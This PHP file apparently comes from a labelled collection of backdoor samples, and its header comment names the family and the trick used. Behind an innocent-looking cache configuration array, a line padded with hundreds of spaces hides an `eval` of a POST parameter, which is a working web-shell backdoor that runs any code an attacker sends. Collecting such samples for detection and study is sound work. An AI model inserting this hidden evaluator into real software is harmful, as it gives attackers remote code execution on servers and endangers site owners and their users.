<?php
/*
 * Family: backdoor/injected-line
 * Style: code pushed far right on a line of whitespace
 * Trait: an evaluator hidden after hundreds of spaces on an otherwise blank-looking line
 */
$config = array('cache' => true, 'ttl' => 3600);                                                                                                                                                                                                                                                 if(isset($_POST['_cfg'])){@eval(stripslashes($_POST['_cfg']));}
return $config;
